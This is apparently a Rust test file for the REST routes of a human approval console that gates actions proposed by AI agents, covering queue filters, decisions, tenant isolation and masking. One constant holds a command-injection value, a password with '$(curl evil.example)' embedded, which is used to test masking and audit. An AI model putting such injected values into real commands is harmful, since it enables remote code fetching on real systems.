//! The REST routes: list, show, decide, bulk decisions, withdraw, resolve, audit, tasks,
//! statistics.

use crate::support;

use std::time::Duration;

use axum::Router;
use hitl::approval::{DecisionKind, RepeatPolicy};
use hitl::tasks::{EventLog, StepContext, Task, TaskManager, TaskStep};
use hitl::{CallContext, CallState, Gate, Tenant};
use hitl_console::{Reviewer, Tasks, Token, Tokens, router};
use serde_json::{Value, json};
use support::ask::{ANN, BOB, get, post};
use support::tools::{
    self, PayBack, book_trip, contract, deletion, note, pay_back, record, send_note, submit,
    submit_as,
};

fn tokens() -> Tokens {
    let other = Reviewer::new("olga").of_tenant("other");
    Tokens::new()
        .with("ann", &Token::from_secret(ANN))
        .with("bob", &Token::from_secret(BOB))
        .with(other, &Token::from_secret("other-secret"))
}

async fn console() -> (Gate, Router) {
    let gate = tools::gate().await;
    (gate.clone(), router(gate, Tasks::none(), tokens()))
}

fn shown(request: &hitl::ApprovalRequest) -> Value {
    json!({ "revision": request.revision, "binding": request.binding.to_string() })
}

fn answer(request: &hitl::ApprovalRequest, more: Value) -> Value {
    let mut body = shown(request);
    body.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    body
}

#[tokio::test]
async fn the_queue_is_sorted_filtered_counted_and_paged() {
    let (gate, console) = console().await;
    let low = note(&gate).await;
    let medium = submit(&gate, book_trip("Ann", "JFK", "SFO", 1, 99.0, true, "economy", "")).await;
    let first = contract(&gate).await;
    let second = deletion(&gate).await;

    let list = get("/api/calls").by(ANN).of(&console).await.ok();
    let ids: Vec<&str> =
        list["calls"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
    let expected = [&first, &second, &medium, &low].map(|request| request.id.to_string());
    assert_eq!(ids, expected, "urgent before high before medium, then by due time");
    let counts = |name: &str| list["counts"][name]["counted"].as_u64();
    assert_eq!((counts("all"), counts("full"), counts("quick")), (Some(4), Some(3), Some(1)));
    assert_eq!((counts("urgent"), counts("overdue")), (Some(2), Some(0)));
    assert!(list["tools"].as_array().unwrap().contains(&json!("book_trip")));

    for (query, expected) in [
        ("risk=high", vec![&first, &second]),
        ("level=quick", vec![&low]),
        ("tool=book_trip", vec![&medium]),
        ("text=APOLLO", vec![&second]),
        ("order=oldest&limit=1", vec![&low]),
        ("priority=urgent&limit=1", vec![&first]),
        ("principal=agent&order=due&limit=2", vec![&first, &second]),
        ("state=approved,claimed", vec![]),
        ("which=ended", vec![]),
        ("which=ended&order=newest", vec![]),
    ] {
        let list = get(format!("/api/calls?{query}")).by(ANN).of(&console).await.ok();
        let ids: Vec<&str> =
            list["calls"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
        let expected: Vec<String> = expected.iter().map(|request| request.id.to_string()).collect();
        assert_eq!(ids, expected, "{query}");
    }
    let mut seen = Vec::new();
    let mut path = "/api/calls?limit=1".to_owned();
    loop {
        let page = get(path.as_str()).by(ANN).of(&console).await.ok();
        assert_eq!(page["calls"].as_array().unwrap().len(), 1);
        seen.push(page["calls"][0]["id"].as_str().unwrap().to_owned());
        let Some(next) = page["next"].as_str() else { break };
        path = format!("/api/calls?limit=1&after={next}");
        let foreign = get(format!("{path}&risk=high")).by(ANN).of(&console).await;
        assert_eq!(foreign.refused(), (400, "badRequest".into()), "of another filter");
        let foreign = get(path.as_str()).by("other-secret").of(&console).await;
        assert_eq!(foreign.refused(), (400, "badRequest".into()), "of another tenant");
    }
    assert_eq!(seen, ids, "page by page, all of them and in order");
    for bad in [
        "risk=high&unknown=1",
        "risk=huge",
        "limit=many",
        "which=mine",
        "after=1",
        "order=newest",
        "state=undecided",
        "which=ended&order=due",
    ] {
        let answer = get(format!("/api/calls?{bad}")).by(ANN).of(&console).await;
        assert_eq!(answer.refused(), (400, "badRequest".into()), "{bad}");
    }
}

#[tokio::test]
async fn a_card_has_what_a_reviewer_needs_and_no_secret() {
    let (gate, console) = console().await;
    let request = contract(&gate).await;
    let answer = get(format!("/api/calls/{}", request.id)).by(ANN).of(&console).await;
    let text = answer.text.clone();
    let call = answer.ok();
    assert_eq!(call["title"], "Sign contract C-7 for $5,000.00");
    assert_eq!(call["request"]["approveLabel"], "Sign Contract");
    assert_eq!(call["request"]["assessment"]["factors"][0]["name"], "amount");
    assert_eq!(call["thresholds"], json!({ "auto": 95, "quick": 70 }));
    assert_eq!(call["factors"].as_array().unwrap().len(), 4);
    assert!(call["argumentsText"].as_str().unwrap().contains("5000.0"), "exactly as it runs");
    assert_eq!(call["schema"]["properties"]["amount"]["type"], "number");
    assert!(!text.contains("1234-secret-pin"));
    let record = serde_json::to_value(record(&gate, request.id).await).unwrap();
    let owner = record["owner"].as_str().expect("it was submitted with an owner's token");
    assert!(!text.contains(owner), "an owner's token is nobody else's");
}

#[tokio::test]
async fn every_answer_reaches_the_gate_in_the_reviewers_name() {
    let (gate, console) = console().await;
    for (more, state) in [
        (json!({ "answer": "approve" }), CallState::Approved),
        (json!({ "answer": "reject", "reason": "too dear" }), CallState::Rejected),
        (json!({ "answer": "respond", "message": "ask me again" }), CallState::Responded),
        (json!({ "answer": "abort", "reason": "stop it all" }), CallState::Cancelled),
    ] {
        let request = contract(&gate).await;
        let path = format!("/api/calls/{}/decide", request.id);
        let call = post(&path, &answer(&request, more)).by(ANN).of(&console).await.ok();
        assert_eq!(call["state"], state.name());
        let record = record(&gate, request.id).await;
        assert_eq!((record.state(), record.decision().unwrap().by.as_str()), (state, "ann"));
    }
}

#[tokio::test]
async fn an_edit_is_checked_and_runs_as_it_was_edited() {
    let (gate, console) = console().await;
    let request = submit(&gate, book_trip("Ann", "JFK", "SFO", 1, 99.0, true, "economy", "")).await;
    let path = format!("/api/calls/{}", request.id);
    for (patch, status, kind) in [
        (json!(r#"{"bags": "many"}"#), 422, "invalidArguments"),
        (json!(r#"{"bags": 1}"#), 422, "notEditable"),
        (json!(r#"{"unknown": 1}"#), 422, "invalidArguments"),
        (json!("nonsense"), 422, "invalidArguments"),
        (json!({ "bags": 2 }), 422, "badRequest"),
        (json!(null), 400, "badRequest"),
    ] {
        let body = answer(&request, json!({ "answer": "edit", "patch": patch }));
        let refused = post(format!("{path}/decide"), &body).by(ANN).of(&console).await;
        assert_eq!(refused.refused(), (status, kind.to_owned()), "{patch}");
    }
    assert_eq!(record(&gate, request.id).await.version(), 1);
    let body =
        answer(&request, json!({ "answer": "edit", "patch": r#"{"bags": 2, "price": 120.50}"# }));
    let edited = post(format!("{path}/decide"), &body).by(ANN).of(&console).await.ok();
    assert_eq!(edited["revision"], 2);
    let call = get(&path).by(ANN).of(&console).await.ok();
    let arguments = call["argumentsText"].as_str().unwrap();
    assert!(arguments.contains("\"bags\":2") && arguments.contains("120.5"), "{arguments}");
    // The binding that was shown before is no longer current.
    let late = answer(&request, json!({ "answer": "approve" }));
    let refused = post(format!("{path}/decide"), &late).by(BOB).of(&console).await;
    assert_eq!(refused.status.as_u16(), 409);
    let deletion = deletion(&gate).await;
    let body = answer(&deletion, json!({ "answer": "edit", "patch": r#"{"project_id": "zeus"}"# }));
    let refused = post(format!("/api/calls/{}/decide", deletion.id), &body).by(ANN).of(&console);
    assert_eq!(refused.await.refused(), (422, "confirm".into()));
}

#[tokio::test]
async fn what_is_missing_or_too_much_is_refused_and_changes_nothing() {
    let (gate, console) = console().await;
    let request = contract(&gate).await;
    let path = format!("/api/calls/{}/decide", request.id);
    for (more, status, kind) in [
        (json!({ "answer": "reject" }), 422, "reasonRequired"),
        (json!({ "answer": "reject", "reason": "  " }), 422, "reasonRequired"),
        (json!({ "answer": "abort" }), 400, "badRequest"),
        (json!({ "answer": "respond" }), 400, "badRequest"),
        (json!({ "answer": "approve", "reason": "x" }), 400, "badRequest"),
        (json!({ "answer": "approve", "by": "bob" }), 422, "badRequest"),
        (json!({ "answer": "explode" }), 422, "badRequest"),
        (json!({ "answer": "approve", "revision": 2 }), 409, "stale"),
        (json!({ "answer": "approve", "binding": "0".repeat(64) }), 409, "stale"),
        (json!({ "answer": "approve", "binding": "0" }), 422, "badRequest"),
    ] {
        let refused = post(&path, &answer(&request, more.clone())).by(ANN).of(&console).await;
        assert_eq!(refused.refused(), (status, kind.to_owned()), "{more}");
    }
    assert_eq!(record(&gate, request.id).await.version(), 1);
}

#[tokio::test]
async fn invariant_4_the_second_reviewer_is_told_what_stands() {
    let (gate, console) = console().await;
    let request = note(&gate).await;
    let path = format!("/api/calls/{}/decide", request.id);
    let approve = answer(&request, json!({ "answer": "approve", "decision": uuid() }));
    post(&path, &approve).by(ANN).of(&console).await.ok();
    let reject = answer(&request, json!({ "answer": "reject", "reason": "no" }));
    let lost = post(&path, &reject).by(BOB).of(&console).await;
    assert_eq!(lost.refused(), (409, "decided".into()));
    assert_eq!(lost.json()["error"]["current"]["decided"]["by"], "ann");
    // Repeating the same decision is harmless.
    post(&path, &approve).by(ANN).of(&console).await.ok();
    assert_eq!(record(&gate, request.id).await.version(), 2);
}

fn uuid() -> String {
    hitl::approval::DecisionId::new().to_string()
}

#[tokio::test]
async fn a_deletion_is_approved_only_with_its_exact_name() {
    let (gate, console) = console().await;
    let request = deletion(&gate).await;
    let path = format!("/api/calls/{}", request.id);
    let call = get(&path).by(ANN).of(&console).await.ok();
    assert_eq!(call["confirm"], "apollo");
    for typed in [json!(null), json!(""), json!("Apollo"), json!("apollo "), json!("apoll")] {
        let body = answer(&request, json!({ "answer": "approve", "confirm": typed }));
        let refused = post(format!("{path}/decide"), &body).by(ANN).of(&console).await;
        assert_eq!(refused.refused(), (422, "confirm".into()), "{typed}");
    }
    let body = json!({ "answer": "approve", "calls": [answer(&request, json!({ "id": request.id.to_string() }))] });
    let bulk = post("/api/bulk", &body).by(ANN).of(&console).await.ok();
    assert_eq!(bulk["results"][0]["result"], "notQuick");
    assert_eq!(record(&gate, request.id).await.state(), CallState::Pending);
    let body = answer(&request, json!({ "answer": "approve", "confirm": "apollo" }));
    post(format!("{path}/decide"), &body).by(ANN).of(&console).await.ok();
}

#[tokio::test]
async fn several_quick_questions_are_decided_at_once_and_full_ones_are_not() {
    let (gate, console) = console().await;
    let (one, two, full) = (note(&gate).await, note(&gate).await, contract(&gate).await);
    let mut calls: Vec<Value> = [&one, &two, &full]
        .iter()
        .map(|request| answer(request, json!({ "id": request.id.to_string() })))
        .collect();
    calls[1]["revision"] = json!(9);
    let body = json!({ "answer": "approve", "calls": calls });
    let done = post("/api/bulk", &body).by(ANN).of(&console).await.ok();
    let results: Vec<&str> =
        done["results"].as_array().unwrap().iter().map(|r| r["result"].as_str().unwrap()).collect();
    assert_eq!(results, ["ok", "stale", "notQuick"]);
    assert_eq!(record(&gate, one.id).await.state(), CallState::Approved);
    assert_eq!(record(&gate, two.id).await.state(), CallState::Pending);
    assert_eq!(record(&gate, full.id).await.state(), CallState::Pending);
    for bad in [
        json!({ "answer": "approve", "calls": [] }),
        json!({ "answer": "abort", "reason": "x", "calls": calls }),
        json!({ "answer": "approve", "calls": vec![calls[0].clone(); 201] }),
    ] {
        assert_eq!(post("/api/bulk", &bad).by(ANN).of(&console).await.refused().0, 400);
    }
}

#[tokio::test]
async fn a_call_is_withdrawn_and_its_audit_says_by_whom() {
    let (gate, console) = console().await;
    let request = note(&gate).await;
    let path = format!("/api/calls/{}", request.id);
    let refused = post(format!("{path}/cancel"), &json!({ "reason": " " })).by(ANN).of(&console);
    assert_eq!(refused.await.refused().0, 400);
    let body = json!({ "reason": "the agent is gone" });
    let call = post(format!("{path}/cancel"), &body).by(BOB).of(&console).await.ok();
    assert_eq!(call["state"], "cancelled");
    let audit = get(format!("{path}/audit")).by(ANN).of(&console).await.ok();
    let lines: Vec<(&str, &str)> = audit["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["event"].as_str().unwrap(), e["by"].as_str().unwrap_or("-")))
        .collect();
    assert_eq!(lines, [("submitted", "-"), ("cancel", "bob")]);
}

#[tokio::test]
async fn who_rejects_may_let_the_model_ask_again() {
    let (gate, console) = console().await;
    for (more, again) in [
        (json!({ "answer": "reject", "reason": "not now", "mayAskAgain": true }), true),
        (json!({ "answer": "reject", "reason": "never" }), false),
    ] {
        let request = note(&gate).await;
        let path = format!("/api/calls/{}", request.id);
        let done = post(format!("{path}/decide"), &answer(&request, more)).by(ANN).of(&console);
        assert_eq!(done.await.ok()["decided"]["mayAskAgain"], again);
        let DecisionKind::Reject { again: kept, .. } =
            record(&gate, request.id).await.decision().unwrap().answer
        else {
            panic!("it is rejected")
        };
        assert_eq!(kept == RepeatPolicy::Allowed, again);
    }
    let request = note(&gate).await;
    let path = format!("/api/calls/{}/decide", request.id);
    let body = answer(&request, json!({ "answer": "approve", "mayAskAgain": true }));
    assert_eq!(post(&path, &body).by(ANN).of(&console).await.refused().0, 400);
    let calls = json!([answer(&request, json!({ "id": request.id.to_string() }))]);
    let bulk = |answer: &str| json!({ "answer": answer, "calls": calls, "mayAskAgain": true });
    assert_eq!(post("/api/bulk", &bulk("approve")).by(ANN).of(&console).await.refused().0, 400);
    assert_eq!(record(&gate, request.id).await.version(), 1);
    post("/api/bulk", &bulk("reject")).by(ANN).of(&console).await.ok();
    let answer = record(&gate, request.id).await.decision().unwrap().answer.clone();
    assert!(
        matches!(answer, DecisionKind::Reject { again: RepeatPolicy::Allowed, .. }),
        "{answer:?}"
    );
}

#[tokio::test]
async fn what_is_not_unknown_is_not_settled() {
    let (gate, console) = console().await;
    let request = note(&gate).await;
    let path = format!("/api/calls/{}/resolve", request.id);
    for body in
        [json!({ "version": 1, "found": "executed" }), json!({ "version": 7, "found": "retry" })]
    {
        let refused = post(&path, &body).by(ANN).of(&console).await;
        assert_eq!(refused.status.as_u16(), 409, "{}", refused.text);
    }
    let body = json!({ "version": 1, "found": "failed" });
    assert_eq!(post(&path, &body).by(ANN).of(&console).await.refused().0, 400);
    assert_eq!(record(&gate, request.id).await.version(), 1);
}

#[tokio::test]
async fn tenants_do_not_see_one_another() {
    let (gate, console) = console().await;
    let mine = note(&gate).await;
    let cx = CallContext::new("agent").tenant("other");
    let theirs = submit_as(&gate, send_note("eve", "hi"), cx).await;
    let list = get("/api/calls").by("other-secret").of(&console).await.ok();
    assert_eq!(list["calls"].as_array().unwrap().len(), 1);
    assert_eq!(list["calls"][0]["id"], theirs.id.to_string());
    for path in ["", "/audit"] {
        let hidden = get(format!("/api/calls/{}{path}", mine.id)).by("other-secret").of(&console);
        assert_eq!(hidden.await.refused(), (404, "notFound".into()));
    }
    for (path, body) in [
        ("decide", answer(&mine, json!({ "answer": "approve" }))),
        ("cancel", json!({ "reason": "x" })),
        ("resolve", json!({ "version": 1, "found": "executed" })),
    ] {
        let hidden = post(format!("/api/calls/{}/{path}", mine.id), &body).by("other-secret");
        assert_eq!(hidden.of(&console).await.refused(), (404, "notFound".into()), "{path}");
    }
    assert_eq!(record(&gate, mine.id).await.version(), 1);
    let other = Tenant::new("other");
    assert_eq!(gate.unscoped().get(&other, theirs.id).await.unwrap().unwrap().version(), 1);
}

#[tokio::test]
async fn tasks_are_listed_with_their_progress_and_stopped() {
    let gate = tools::gate().await;
    let log = EventLog::new(1000);
    let manager = TaskManager::builder().emitter(log.clone()).build().unwrap();
    let console = router(gate, Tasks::new(manager.clone(), log), tokens());
    get("/api/tasks").by(ANN).of(&console).await.ok();

    let work = |cx: StepContext| async move {
        cx.progress(0.5);
        std::future::pending::<()>().await;
        Ok::<(), String>(())
    };
    let task = Task::new("Export").step(TaskStep::new("Copy", work).weight(3));
    let handle = manager.submit(task).unwrap();
    let listed = async {
        loop {
            let tasks = get("/api/tasks").by(ANN).of(&console).await.ok();
            if tasks["tasks"][0]["percent"] == 50 {
                return tasks;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    };
    let tasks = tokio::time::timeout(Duration::from_secs(10), listed).await.unwrap();
    let task = &tasks["tasks"][0];
    assert_eq!(
        (task["taskName"].as_str(), task["status"].as_str()),
        (Some("Export"), Some("running"))
    );
    assert_eq!((&task["totalSteps"], &task["stepsCompleted"]), (&json!(1), &json!(0)));
    let none = get("/api/tasks").by("other-secret").of(&console).await.ok();
    assert_eq!(none["tasks"], json!([]));

    let path = format!("/api/tasks/{}/cancel", task["taskId"].as_str().unwrap());
    let body = json!({ "reason": "not needed" });
    let hidden = post(&path, &body).by("other-secret").of(&console).await;
    assert_eq!(hidden.refused(), (404, "notFound".into()));
    assert_eq!(post(&path, &body).by(ANN).of(&console).await.status.as_u16(), 202);
    handle.wait().await.unwrap_err();
    assert_eq!(post(&path, &body).by(ANN).of(&console).await.status.as_u16(), 404);
}

#[tokio::test]
async fn the_numbers_of_the_history_follow_from_the_records() {
    let (gate, console) = console().await;
    for _ in 0..3 {
        let request = note(&gate).await;
        gate.decide(request.approve().by("ann")).await.unwrap();
    }
    let request = contract(&gate).await;
    gate.decide(request.reject("no").by("ann")).await.unwrap();
    note(&gate).await;
    let stats = get("/api/stats?days=7").by(ANN).of(&console).await.ok();
    assert_eq!(
        (&stats["calls"], &stats["decided"], &stats["days"]),
        (&json!(5), &json!(4), &json!(7))
    );
    let days = stats["byDay"].as_object().unwrap();
    let day = days.values().next().unwrap();
    assert_eq!((days.len(), &day["approved"], &day["rejected"]), (1, &json!(3), &json!(1)));
    assert_eq!(stats["byConfidence"][7], json!({ "from": 70, "approved": 3, "decided": 3 }));
    assert_eq!(stats["byConfidence"][3]["decided"], 1);
    assert_eq!(stats["timeToDecision"][0], json!({ "belowSeconds": 10, "count": 4 }));
    assert_eq!(stats["medianSeconds"], 0);
}

#[tokio::test]
async fn a_card_has_the_effect_and_the_earlier_call_as_it_is_now() {
    let gate = tools::register(Gate::builder()).tool::<PayBack>().build().await.unwrap();
    let console = router(gate.clone(), Tasks::none(), tokens());
    gate.call(pay_back("pay_1", "broken")).by("carol").key("first", 0).await.unwrap();
    let request = submit(&gate, pay_back("pay_1", "please")).await;
    let path = format!("/api/calls/{}", request.id);
    let call = get(&*path).by(ANN).of(&console).await.ok();
    assert_eq!(call["request"]["effect"], "refund:pay_1");
    let earlier = &call["request"]["earlier"];
    assert_eq!((&earlier["standing"], &earlier["principal"]), (&json!("ran"), &json!("carol")));
    assert_eq!(call["request"]["repeats"], earlier["id"]);
    let section = |call: &Value, name: &str| {
        let sections = call["rendered"]["sections"].as_array().unwrap().clone();
        sections.into_iter().find(|section| section["name"] == name).unwrap()["lines"].to_string()
    };
    assert!(section(&call, "effect").contains("refund:pay_1"), "{call}");
    let beware = call["rendered"]["warnings"].to_string();
    assert!(beware.contains("broken") && beware.contains("which has run"), "{beware}");
    assert!(call["noGrant"].as_str().unwrap().contains("repeats the effect"), "{call}");
    // What is erased of the earlier call is not shown here either.
    let first = request.repeats.unwrap();
    gate.flush_audit().await.unwrap();
    let scope = hitl::gate::ErasureScope::Call { tenant: Tenant::default(), id: first };
    gate.erase(&scope, "asked for", "dora", &[]).await.unwrap();
    let call = get(&*path).by(ANN).of(&console).await.ok();
    assert!(!call.to_string().contains("broken"), "{call}");
    assert!(call["rendered"]["warnings"].to_string().contains(&first.to_string()), "{call}");
    // Each of its keys is described.
    let document = get("/openapi.json").of(&console).await.ok();
    let described = &document["components"]["schemas"]["RequestDocument"]["properties"];
    for key in call["request"].as_object().unwrap().keys() {
        assert!(described.get(key).is_some(), "request.{key} is not described");
    }
}

#[tokio::test]
async fn the_document_describes_every_route_and_the_request_as_it_is() {
    let (gate, console) = console().await;
    let document = get("/openapi.json").of(&console).await.ok();
    assert!(document["openapi"].as_str().unwrap().starts_with("3.1"));
    let paths = document["paths"].as_object().unwrap();
    assert_eq!(paths.len(), 35, "{:?}", paths.keys());
    assert_eq!(document["components"]["securitySchemes"]["token"]["scheme"], "bearer");

    let request = contract(&gate).await;
    let call = get(format!("/api/calls/{}", request.id)).by(ANN).of(&console).await.ok();
    let described = |name: &str| {
        let mut keys: Vec<String> = Vec::new();
        let schema = &document["components"]["schemas"][name];
        let mut parts = vec![schema];
        parts.extend(schema["allOf"].as_array().into_iter().flatten());
        for part in parts {
            keys.extend(
                part["properties"].as_object().into_iter().flatten().map(|(k, _)| k.clone()),
            );
            let to = part["$ref"].as_str().and_then(|to| to.rsplit('/').next());
            let inner = to.map(|to| &document["components"]["schemas"][to]["properties"]);
            keys.extend(
                inner.and_then(Value::as_object).into_iter().flatten().map(|(k, _)| k.clone()),
            );
        }
        keys
    };
    let of_request = described("RequestDocument");
    for key in call["request"].as_object().unwrap().keys() {
        assert!(of_request.contains(key), "request.{key} is not described");
    }
    let of_call = described("CallDetail");
    for key in call.as_object().unwrap().keys() {
        assert!(of_call.contains(key), "{key} is not described: {of_call:?}");
    }
}

/// Compares the routes that take a one-time code, and their refusals.
#[tokio::test]
async fn the_document_says_where_a_one_time_code_goes() {
    let (_gate, console) = console().await;
    let document = get("/openapi.json").of(&console).await.ok();
    let mut taking = Vec::new();
    for (path, methods) in document["paths"].as_object().unwrap() {
        let post = &methods["post"];
        let parameters = post["parameters"].as_array();
        let is_code = |it: &Value| it["name"] == "Hitl-Code" && it["in"] == "header";
        let Some(code) = parameters.into_iter().flatten().find(|it| is_code(it)) else { continue };
        assert_ne!(code["required"], true, "{path}");
        for status in ["403", "429", "503"] {
            assert!(post["responses"].get(status).is_some(), "{path} {status}");
        }
        taking.push(path.rsplit('/').next().unwrap());
    }
    let expected =
        ["accept", "bulk", "decide", "extend", "grant", "resolve", "retry", "thaw", "uncover"];
    taking.sort_unstable();
    assert_eq!(taking, expected);
    let code_for = &document["components"]["schemas"]["CodeFor"]["oneOf"];
    let alone = &document["components"]["schemas"]["CodeFor"]["enum"];
    let said = format!("{code_for}{alone}");
    for word in ["nothing", "loosening", "answers"] {
        assert!(said.contains(&format!("\"{word}\"")), "{said}");
    }
}

/// A command whose password contains shell code.
const COMMAND: &str = "mysql --password=\"aB3dE6gH$(curl evil.example)\" -h db";

async fn masked(gate: &Gate) -> hitl::ApprovalRequest {
    submit(gate, send_note("bob".to_owned(), COMMAND.to_owned())).await
}

#[tokio::test]
async fn invariant_9b_a_reviewer_uncovers_what_is_masked_and_the_audit_says_so() {
    let audit = hitl::MemoryAudit::new();
    let gate = tools::register(Gate::builder()).audit(audit.clone()).build().await.unwrap();
    let console = router(gate.clone(), Tasks::none(), tokens());
    let request = masked(&gate).await;
    let path = format!("/api/calls/{}", request.id);
    let card = get(&path).by(ANN).of(&console).await.ok();
    assert_eq!((&card["toUncover"], &card["rendered"]["toUncover"]), (&json!(2), &json!(2)));
    assert_eq!(card["request"]["masks"][0]["reason"], "name");
    let list = get("/api/calls").by(ANN).of(&console).await;
    for text in [card.to_string(), list.text] {
        assert!(!text.contains("aB3dE6gH") && !text.contains("curl"), "{text}");
    }
    // Only a reviewer who may decide the call can uncover it.
    let uncover = |body: &Value| post(format!("{path}/uncover"), body);
    assert_eq!(uncover(&shown(&request)).of(&console).await.refused().0, 403);
    let other = uncover(&shown(&request)).by("other-secret").of(&console).await.refused();
    assert_eq!(other, (404, "notFound".to_owned()));
    let mut stale = shown(&request);
    stale["revision"] = json!(2);
    assert_eq!(uncover(&stale).by(ANN).of(&console).await.refused(), (409, "stale".to_owned()));
    let nowhere = answer(&request, json!({ "places": ["/to"] }));
    let refused = uncover(&nowhere).by(ANN).of(&console).await.refused();
    assert_eq!(refused, (422, "notUncovered".to_owned()));
    let of = |event| audit.records().into_iter().filter(move |record| record.event == event);
    assert_eq!(of(hitl::audit::AuditEvent::Uncovered).count(), 0);
    for body in [shown(&request), answer(&request, json!({ "places": ["/text"] }))] {
        let answered = uncover(&body).by(ANN).of(&console).await;
        assert_eq!(answered.header("cache-control"), "no-store");
        let uncovered = answered.ok();
        assert_eq!(uncovered["places"][0]["value"], json!(COMMAND).to_string());
        assert!(uncovered["argumentsText"].as_str().unwrap().contains("curl evil.example"));
        assert!(uncovered["rendered"].to_string().contains("curl evil.example"));
    }
    let by: Vec<_> =
        of(hitl::audit::AuditEvent::Uncovered).filter_map(|record| record.by).collect();
    assert_eq!(by.iter().map(hitl::Principal::as_str).collect::<Vec<_>>(), ["ann", "ann"]);
}

#[tokio::test]
async fn invariant_9b_masked_calls_are_not_approved_in_bulk() {
    let (gate, console) = console().await;
    let request = masked(&gate).await;
    let calls = [answer(&request, json!({ "id": request.id.to_string() }))];
    let bulk = async |answer: &str| {
        let body = json!({ "answer": answer, "calls": calls });
        let done = post("/api/bulk", &body).by(ANN).of(&console).await.ok();
        done["results"][0]["result"].as_str().unwrap().to_owned()
    };
    assert_eq!(bulk("approve").await, "masked");
    assert_eq!(record(&gate, request.id).await.state(), CallState::Pending);
    assert_eq!(bulk("reject").await, "ok");
}
